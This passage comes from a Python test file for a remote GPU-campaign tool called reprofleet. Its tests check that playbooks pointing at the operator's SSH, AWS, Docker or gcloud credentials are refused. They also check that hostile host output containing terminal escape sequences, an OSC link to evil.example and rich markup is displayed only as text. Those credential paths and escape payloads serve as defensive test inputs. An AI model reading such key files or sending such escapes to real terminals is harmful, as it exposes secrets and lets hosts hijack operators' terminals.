], ids=["script-dotdot", "script-absolute", "script-link", "cache-absolute", "cache-dotdot"])
def test_a_playbook_naming_the_operators_keys_is_refused_at_its_line(home: Path, tmp_path: Path,
                                                                     poc: str, field: str) -> None:
    from reprofleet.errors import PlaybookError
    from reprofleet.playbook import load_playbook

    (tmp_path / "book").mkdir()
    (tmp_path / "book" / "key.py").symlink_to(home / ".ssh" / "id_ed25519")
    path = _playbook(tmp_path / "book", poc.replace("HOME", str(home)))
    error = tried(lambda: load_playbook(path))
    assert isinstance(error, PlaybookError)
    assert str(error).startswith(f"{path}:2:{field}: ") and "outside the playbook's folder" in str(error)


@pytest.mark.parametrize("source", ["file:~/.ssh/id_ed25519", "env:AWS_SECRET_ACCESS_KEY"])
def test_a_playbook_naming_a_secrets_source_is_refused_at_its_line(home: Path, tmp_path: Path, source: str) -> None:
    from reprofleet.errors import PlaybookError
    from reprofleet.playbook import load_playbook

    path = _playbook(tmp_path / "book", "{script: poc.py}", f"env_secrets:\n  HF_TOKEN: {source}\n")
    error = tried(lambda: load_playbook(path))
    assert isinstance(error, PlaybookError)
    assert str(error).startswith(f"{path}:5:env_secrets.HF_TOKEN: a playbook cannot say where a secret lives")


@pytest.mark.parametrize("name", [".ssh/id_ed25519", ".aws/credentials", ".docker/config.json",
                                  ".config/gcloud/adc.json", "link-to-key"])
def test_a_file_credential_where_the_operators_keys_live_is_refused_even_owner_only(home: Path, name: str) -> None:
    from reprofleet.credentials import resolve, resolve_env_secrets
    from reprofleet.model import CredentialRef, EnvSecret

    (home / "link-to-key").symlink_to(home / ".ssh" / "id_ed25519")
    ref = CredentialRef("file", f"~/{name}", "invoke.yaml reprofleet:env_secrets.HF_TOKEN")
    for read in (lambda: resolve(ref), lambda: resolve_env_secrets([EnvSecret("HF_TOKEN", ref)])):
        error = tried(read)
        assert isinstance(error, ReprofleetError) and "where the operator's own keys live" in str(error)
        assert "PRIVATE KEY" not in str(error) and "\n" not in str(error)


# -- the operator's terminal (issue 34): a host's text is shown, never run as escapes or markup ----

def _facts_reply(text: str) -> dict[str, Any]:
    return {"k": "facts", "boot_id": text, "uptime_s": 1, "kernel": text, "driver_version": MARKUP,
            "cuda_driver_version": text, "dmi": {"board_name": text, "bios_version": MARKUP},
            "gpus": [{"name": text, "vbios": MARKUP, "power_limit_w": {"current": text}}], "journal_persistent": False}


def _assert_shown_as_text(shown: str) -> None:
    assert terminal_controls(shown) == [], "a control character reached the terminal"
    assert "owned title" not in shown and "evil.example/\x1b" not in shown  # the title and the link's target
    assert "[/]" in shown and "fake verdict" in shown  # the markup shown as the host wrote it


def test_invoke_facts_shows_escape_bytes_and_markup_in_a_hosts_strings_as_text(
        lab: SimpleNamespace, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A ``[/]`` in a kernel string raised MarkupError for every host; an OSC-8 link and ESC c were emitted."""
    reply = json.dumps(_facts_reply(HOSTILE_TEXT)) + "\n"
    monkeypatch.setattr(session_module, "connect",
                        lambda host, transport: HostileSession(host, lambda command: [b""], run_stdout=reply))
    monkeypatch.chdir(lab.root)
    outcome: dict[str, Any] = {}
    assert tried(lambda: outcome.update(zip(("code", "out", "err"),
                                            run_task(capsys, "facts", "-i", str(lab.root / "hosts.yml"))))) is None
    assert outcome["code"] == 0, outcome["err"]
    _assert_shown_as_text(outcome["out"])


def test_a_hosts_error_in_the_facts_and_policy_tables_is_text() -> None:
    from reprofleet.cli.tables import facts_table, policy_table

    shown = io.StringIO()
    terminal = Console(file=shown, width=400, color_system=None)
    failed = {"ws01": AgentError("ws01", HOSTILE_TEXT), "ws02": {"graphics_clocks": HOSTILE_TEXT, "host_debug": {
        MARKUP: 1}}}
    for table in (facts_table(failed), policy_table(failed)):
        assert tried(lambda: terminal.print(table)) is None
    _assert_shown_as_text(shown.getvalue())


def test_a_campaign_whose_host_said_markup_and_escapes_writes_its_report_and_exits_with_its_status(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """The live view's exit raised MarkupError before report.md, report.html and the exit status;
    a quarantine reason went out through rich markup."""
    from reprofleet.campaign import run as campaign_mod
    from reprofleet.cli import campaign_tasks
    from reprofleet.records.store import CampaignDir

    monkeypatch.chdir(tmp_path)
    folder = synthetic.write(tmp_path / "reports" / "hostile-1", synthetic.build(synthetic.Spec()))
    inventory = tmp_path / "hosts.yml"
    inventory.write_text("all:\n  hosts:\n    gone:\n      ansible_host: 127.0.0.1\n      ansible_port: 9\n")
    screen = io.StringIO()
    monkeypatch.setattr(campaign_tasks, "console", lambda: Console(file=screen, force_terminal=True, width=300))
    monkeypatch.setattr(campaign_tasks, "_install_stop_handlers", lambda stop: None)

    def ran(plan: Any, settings: Any, root: Path, progress: Any, **_: Any) -> campaign_mod.CampaignResult:
        progress("gone", status=HOSTILE_TEXT, cell=MARKUP, phase=HOSTILE_TEXT)
        progress("gone", outcome="wedge", counts={MARKUP: 1})
        return campaign_mod.CampaignResult(folder.name, CampaignDir(folder), (), False,
                                           quarantined={"gone": HOSTILE_TEXT})

    monkeypatch.setattr(campaign_mod, "run_campaign", ran)
    outcome: dict[str, Any] = {}
    assert tried(lambda: outcome.update(zip(("code", "out", "err"), run_task(
        capsys, "campaign", "-i", str(inventory), "-p", str(REPO / "playbooks" / "demo.yml"))))) is None
    assert outcome["code"] == 3, outcome["err"]  # a quarantined host, as without the hostile text
    assert (folder / "report.md").is_file() and (folder / "report.html").is_file()
    assert "quarantined:" in outcome["err"] and terminal_controls(outcome["err"]) == []
    _assert_shown_as_text(outcome["err"])
    drawn = screen.getvalue()  # a terminal: rich's own colours and cursor moves, none of the host's
    assert "fake verdict" in drawn and "[/]" in drawn
    assert not any(s in drawn for s in ("\x1b]", "\x1bc", "\x07", "\x9b", "\x1bP", "owned title", "\x1b[2J"))


class _ClosedTerminal(io.StringIO):
    def write(self, text: str) -> int:
        raise OSError("the terminal went away")


def test_a_terminal_that_fails_every_print_costs_no_report_and_no_exit_status(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from reprofleet.campaign import run as campaign_mod
    from reprofleet.cli import campaign_tasks, output
    from reprofleet.records.store import CampaignDir

    monkeypatch.chdir(tmp_path)
    folder = synthetic.write(tmp_path / "reports" / "closed-1", synthetic.build(synthetic.Spec()))
    inventory = tmp_path / "hosts.yml"
    inventory.write_text("all:\n  hosts:\n    gone:\n      ansible_host: 127.0.0.1\n      ansible_port: 9\n")
    monkeypatch.setattr(campaign_tasks, "console", lambda: Console(file=_ClosedTerminal(), force_terminal=True))
    monkeypatch.setattr(campaign_tasks, "stderr_console", lambda: Console(file=_ClosedTerminal()))
    monkeypatch.setattr(output, "stderr_console", lambda: Console(file=_ClosedTerminal()))
    monkeypatch.setattr(campaign_tasks, "_install_stop_handlers", lambda stop: None)

    def ran(plan: Any, settings: Any, root: Path, progress: Any, **_: Any) -> campaign_mod.CampaignResult:
        progress("gone", status="running", phase="model_load")
        return campaign_mod.CampaignResult(folder.name, CampaignDir(folder), (), False, quarantined={"gone": "why"})

    monkeypatch.setattr(campaign_mod, "run_campaign", ran)
    code, _, err = run_task(capsys, "campaign", "-i", str(inventory), "-p", str(REPO / "playbooks" / "demo.yml"))
    assert code == 3, err
    assert (folder / "report.md").is_file() and (folder / "report.html").is_file()


def test_invoke_status_shows_a_hosts_quarantine_reason_as_plain_text(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The reason (an agent's error) was printed raw: escape sequences reached the terminal."""
    folder = synthetic.write(tmp_path / "c", synthetic.build(synthetic.Spec()))
    with (folder / "events.jsonl").open("a") as events:
        events.write(json.dumps({"t": "2026-11-30T09:00:00Z", "host": "ws2", "event": "quarantined",
                                 "reason": HOSTILE_TEXT}) + "\n")
    outcome: dict[str, Any] = {}
    assert tried(lambda: outcome.update(zip(("code", "out", "err"), run_task(capsys, "status", str(folder))))) is None
    assert outcome["code"] == 0, outcome["err"]
    assert "quarantined: " in outcome["out"]
    _assert_shown_as_text(outcome["out"])


class _ClosedPipe(io.StringIO):
    def write(self, text: str) -> int:
        raise BrokenPipeError(32, "Broken pipe")


def test_a_closed_pipe_makes_the_console_quiet_instead_of_exiting_1_from_inside_a_print() -> None:
    """rich's answer to a closed pipe is SystemExit(1) from inside the print: a campaign would end
    with 1 instead of its own status, skipping what came after the print."""
    from reprofleet.cli.output import _console

    terminal = _console(file=_ClosedPipe())
    terminal.print("report:  reports/c/report.md")
    terminal.print("a second line goes nowhere")
    assert terminal.quiet


def test_a_character_whose_bytes_straddle_two_reads_comes_back_whole() -> None:
    """Invoke decodes each chunk on its own: "█" (e2 96 88) cut between two reads came back as
    U+FFFD in every command's output (seen in a log read back from a host whose docker wrote
    a tqdm bar in another split). Our runner decodes each stream as one text; bytes that are
    not UTF-8 still become U+FFFD, and an end cut mid-character does too."""
    from fabric import Connection

    from reprofleet.remote.transport import _BoundedRemote

    runner = _BoundedRemote(context=Connection("ws01"))
    runner.encoding = "utf-8"
    bar = "Capturing CUDA graphs: 100%|██████████| 35/35\n".encode()
    cut = bar.index("█".encode()) + 1  # inside the first "█"
    for chunks, expected in (([bar[:cut], bar[cut:]], bar.decode()),
                             ([b"a\xff", b"b"], "a\ufffdb"),
                             ([bar[:cut]], bar[:cut - 1].decode() + "\ufffd")):
        sent = iter(chunks)
        buffer: list[str] = []
        runner._handle_output(buffer, True, None, lambda size: next(sent, b""))
        assert "".join(buffer) == expected
